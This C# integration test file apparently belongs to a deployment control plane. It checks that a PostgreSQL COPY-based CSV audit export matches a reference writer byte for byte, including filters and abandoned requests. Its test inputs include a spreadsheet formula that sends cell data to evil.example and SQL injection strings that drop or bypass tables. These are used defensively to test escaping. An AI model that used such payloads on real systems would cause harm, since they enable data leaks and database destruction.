using System.Globalization;
using System.Net;
using System.Text;
using ControlPlane.Core.Audit;
using ControlPlane.Core.Data;
using ControlPlane.Core.Deployments;
using ControlPlane.IntegrationTests.Infrastructure;
using CsvHelper;
using Microsoft.Extensions.DependencyInjection;
using Npgsql;

namespace ControlPlane.IntegrationTests.Audit;

/// <summary>
/// The CSV export is PostgreSQL's COPY; its bytes must be those of the per-event CsvHelper writer it replaced (kept here
/// as the reference, reading the same filtered query through <see cref="AuditTrailReader"/>), for hostile values and
/// hostile filters alike.
/// </summary>
public sealed class AuditCsvCopyTests(PostgresFixture postgres) : IAsyncLifetime
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;
    private ControlPlaneAppFactory _factory = null!;

    /// <summary>Everything CSV quoting, the formula escape and COPY's own rules could treat differently.</summary>
    private static readonly string[] Hostile =
    [
        "=1+2", "+x", "-x", "@x", "\tx", "\rx", "\nx", "=", "-", "a,b", "a\"b", "\"quoted\"", "=a,\"b\"", "=a\"b", "\r",
        "\r\n", "\n", "x\r\ny", "=\r", "-\n", "a\"\"b", "\"\rb", ",\"\r", "x,\"\ry", "\",\"\r", " lead", "trail ", " ",
        "\t", " =x", "ünï©ødé ✓ 日本", "😀=", "é=", "'=already", "'", "\\.", "\\", "\\N", "N", "NULL", "\"", ",", "\"\"",
        "a,", ",a", "tab\tin", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'); DROP TABLE audit_events; --",
        "x' OR '1'='1", "$1", "@p0", "current_setting('x')", "\u2028\u0085",
    ];

    public async ValueTask InitializeAsync()
    {
        _factory = await ControlPlaneAppFactory.StartAsync(postgres);
        await using var scope = _factory.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<ControlPlaneDbContext>();
        // After every event already stored (the trail keeps occurred_at from going backwards), starting on a whole second.
        var at = new DateTimeOffset(DateTimeOffset.UtcNow.Ticks / TimeSpan.TicksPerSecond * TimeSpan.TicksPerSecond, TimeSpan.Zero).AddSeconds(2);
        for (var i = 0; i < Hostile.Length; i++)
        {
            var v = Hostile[i];
            // A whole second, then 10 ms steps with .xxx999 µs and sub-microsecond ticks (truncated): the "O" format's digits.
            var when = at.AddMilliseconds(i * 10).AddTicks((i % 3) switch { 0 => 0, 1 => 9_990, _ => 1_237 });
            db.Record(AuditEvent.Create(new Actor(v, ActorKind.User, v), v, when, v, i % 2 == 0 ? Guid.NewGuid() : null,
                before: v, after: i % 2 == 0 ? "" : null, reason: v, details: i % 2 == 0 ? null : ""));
        }
        // Empty and NULL text next to each other in every nullable column.
        db.Record(AuditEvent.Create(new Actor("", ActorKind.System, ""), "", at, "", null, "", "", "", ""));
        db.Record(AuditEvent.Create(new Actor("nulls", ActorKind.System), "nulls", at));
        await db.SaveChangesAsync(Ct);
    }

    public async ValueTask DisposeAsync() => await _factory.DisposeAsync();

    [Fact]
    public async Task The_whole_export_has_the_bytes_of_the_per_event_writer()
    {
        using var admin = _factory.Admin();
        var exported = await admin.GetByteArrayAsync("/api/v1/audit/export?format=csv", Ct);
        var expected = await ReferenceAsync(new AuditFilter());
        Assert.True(expected.Length > 2000, "the reference export holds the hostile events");
        AssertSameBytes(expected, exported);
        // And the escape is there: no cell of the export starts like a formula.
        Assert.True(exported.AsSpan().IndexOf(",\"'=1+2\","u8) >= 0, "the escaped cell is quoted");
    }

    [Fact]
    public async Task Every_filter_with_hostile_values_selects_exactly_what_the_per_event_reader_selects()
    {
        using var admin = _factory.Admin();
        var deployment = await FirstDeploymentIdAsync();
        var filters = new List<AuditFilter>();
        foreach (var v in Hostile)
        {
            filters.Add(new(Actor: v));
            filters.Add(new(Action: v));
            filters.Add(new(Application: v, Actor: v, Action: v));
        }
        filters.Add(new(Actor: "no such actor'); DROP TABLE audit_events; --"));
        filters.Add(new(DeploymentId: deployment));
        // Windows whose ends carry ticks below a microsecond: Npgsql truncates a bound parameter to microseconds, so the
        // text the COPY reads back must too (rounding would drop the event at the lower end).
        var times = await TimesAsync();
        var low = times[10].AddTicks(5);
        var high = times[30].AddTicks(7);
        filters.Add(new(From: low));
        filters.Add(new(To: high));
        filters.Add(new(From: low, To: high));
        filters.Add(new(From: low.ToOffset(TimeSpan.FromHours(5)), To: high.ToOffset(TimeSpan.FromHours(-3))));
        filters.Add(new(Application: Hostile[12], From: low, To: high));

        var matched = 0;
        foreach (var f in filters)
        {
            var query = string.Join('&', new[]
            {
                ("application", f.Application), ("actor", f.Actor), ("action", f.Action), ("deploymentId", f.DeploymentId?.ToString()),
                ("from", f.From?.ToString("O")), ("to", f.To?.ToString("O")),
            }.Where(p => p.Item2 is not null).Select(p => $"{p.Item1}={Uri.EscapeDataString(p.Item2!)}"));
            var exported = await admin.GetByteArrayAsync($"/api/v1/audit/export?format=csv&{query}", Ct);
            var expected = await ReferenceAsync(f);
            AssertSameBytes(expected, exported, query);
            if (expected.Length > HeaderLength) matched++;
        }
        // The filters really select (a filter that matched nothing everywhere would compare headers only).
        Assert.True(matched > Hostile.Length, $"only {matched} of {filters.Count} filters selected events");
    }

    [Fact]
    public async Task An_export_the_client_abandons_is_cancelled_and_leaves_the_pool_usable()
    {
        await using (var scope = _factory.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<ControlPlaneDbContext>();
            var details = System.Text.Json.JsonSerializer.Serialize(new { note = new string('x', 1400) });
            for (var i = 0; i < 3000; i++)
                db.Record(AuditEvent.Create(Actor.System, "bench.filler", DateTimeOffset.UtcNow, "filler", details: details));
            await db.SaveChangesAsync(Ct);
        }
        using var admin = _factory.Admin();
        for (var round = 0; round < 3; round++)
        {
            using (var response = await admin.GetAsync("/api/v1/audit/export?format=csv", HttpCompletionOption.ResponseHeadersRead, Ct))
            {
                Assert.Equal(HttpStatusCode.OK, response.StatusCode);
                await using var body = await response.Content.ReadAsStreamAsync(Ct);
                var some = new byte[1024];
                Assert.True(await body.ReadAsync(some, Ct) > 0);
            }
            // No backend is left copying or inside the export's transaction once the request has ended.
            string? left = null;
            for (var i = 0; i < 200; i++)
            {
                left = await ScalarAsync<string?>("""
                    SELECT string_agg(state || ': ' || left(query, 40), '; ') FROM pg_stat_activity
                    WHERE datname = current_database() AND pid <> pg_backend_pid()
                      AND (state LIKE 'idle in transaction%' OR (state = 'active' AND query LIKE 'COPY%'))
                    """);
                if (left is null) break;
                await Task.Delay(50, Ct);
            }
            Assert.Null(left);
        }
        // The pooled connections that served the abandoned exports serve whole ones again.
        for (var i = 0; i < 3; i++)
            AssertSameBytes(await ReferenceAsync(new AuditFilter()), await admin.GetByteArrayAsync("/api/v1/audit/export?format=csv", Ct));
        Assert.True((await admin.GetJsonAsync("/api/v1/audit/verify")).GetProperty("valid").GetBoolean());
    }

    private static readonly int HeaderLength = Encoding.UTF8.GetByteCount(string.Join(',', AuditCsvExport.Header) + "\r\n");

    /// <summary>The export as the per-event CsvHelper writer wrote it before the COPY (unchanged code, kept here).</summary>
    private async Task<byte[]> ReferenceAsync(AuditFilter filter)
    {
        await using var scope = _factory.Services.CreateAsyncScope();
        var query = scope.ServiceProvider.GetRequiredService<AuditQuery>().Filtered(filter);
        var trail = new AuditTrailReader(scope.ServiceProvider.GetRequiredService<ControlPlaneDbContext>());
        using var output = new MemoryStream();
        var options = CsvWriterOptions.Default with { Injection = CsvInjection.Escape };
        await using (var csv = CsvWriter.Create(output, options, leaveOpen: true))
        {
            foreach (var h in AuditCsvExport.Header) csv.WriteField(h);
            await csv.EndRecordAsync(Ct);
            await foreach (var row in trail.ReadAsync(query, Ct))
            {
                WriteRow(csv, row);
                await csv.EndRecordAsync(Ct);
            }
            await csv.FlushAsync(Ct);
        }
        return output.ToArray();
    }

    private static void WriteRow(CsvWriter csv, AuditTrailRow row)
    {
        Span<byte> formatted = stackalloc byte[40];
        row.GetSequence().TryFormat(formatted, out var n, default, CultureInfo.InvariantCulture);
        csv.WriteField(formatted[..n]);
        row.GetOccurredAt().TryFormat(formatted, out n, "O", CultureInfo.InvariantCulture);
        csv.WriteField(formatted[..n]);
        csv.WriteField(row.GetUtf8(AuditTrailRow.Actor));
        csv.WriteField(row.GetUtf8(AuditTrailRow.ActorKind));
        csv.WriteField(row.GetUtf8(AuditTrailRow.SourceIp));
        csv.WriteField(row.GetUtf8(AuditTrailRow.Action));
        csv.WriteField(row.GetUtf8(AuditTrailRow.Application));
        if (row.GetDeploymentId() is { } id)
        {
            id.TryFormat(formatted, out n, "D");
            csv.WriteField(formatted[..n]);
        }
        else csv.WriteField(ReadOnlySpan<byte>.Empty);
        csv.WriteField(row.GetUtf8(AuditTrailRow.BeforeState));
        csv.WriteField(row.GetUtf8(AuditTrailRow.AfterState));
        csv.WriteField(row.GetUtf8(AuditTrailRow.Reason));
        csv.WriteField(row.GetUtf8(AuditTrailRow.Details));
        csv.WriteField(row.GetUtf8(AuditTrailRow.PreviousHash));
        csv.WriteField(row.GetUtf8(AuditTrailRow.Hash));
    }

    private static void AssertSameBytes(byte[] expected, byte[] actual, string? what = null)
    {
        if (expected.AsSpan().SequenceEqual(actual)) return;
        var at = expected.AsSpan().CommonPrefixLength(actual);
        string Around(byte[] b) => Encoding.UTF8.GetString(b, Math.Max(0, at - 60), Math.Min(b.Length, at + 60) - Math.Max(0, at - 60))
            .Replace("\r", "\\r").Replace("\n", "\\n").Replace("\t", "\\t");
        Assert.Fail($"{what}: the export differs from the per-event writer at byte {at} ({expected.Length} against {actual.Length} bytes)\n" +
            $"expected …{Around(expected)}…\nactual   …{Around(actual)}…");
    }

    private async Task<Guid> FirstDeploymentIdAsync() =>
        await ScalarAsync<Guid>("SELECT deployment_id FROM audit_events WHERE deployment_id IS NOT NULL ORDER BY sequence LIMIT 1");

    private async Task<List<DateTimeOffset>> TimesAsync()
    {
        await using var connection = new NpgsqlConnection(_factory.ConnectionString);
        await connection.OpenAsync(Ct);
        await using var cmd = new NpgsqlCommand("SELECT occurred_at FROM audit_events ORDER BY sequence", connection);
        await using var reader = await cmd.ExecuteReaderAsync(Ct);
        var times = new List<DateTimeOffset>();
        while (await reader.ReadAsync(Ct)) times.Add(new DateTimeOffset(reader.GetDateTime(0), TimeSpan.Zero));
        return times;
    }

    private async Task<T> ScalarAsync<T>(string sql)
    {
        await using var connection = new NpgsqlConnection(_factory.ConnectionString);
        await connection.OpenAsync(Ct);
        await using var cmd = new NpgsqlCommand(sql, connection);
        var value = await cmd.ExecuteScalarAsync(Ct);
        return value is DBNull or null ? default! : (T)value;
    }
}
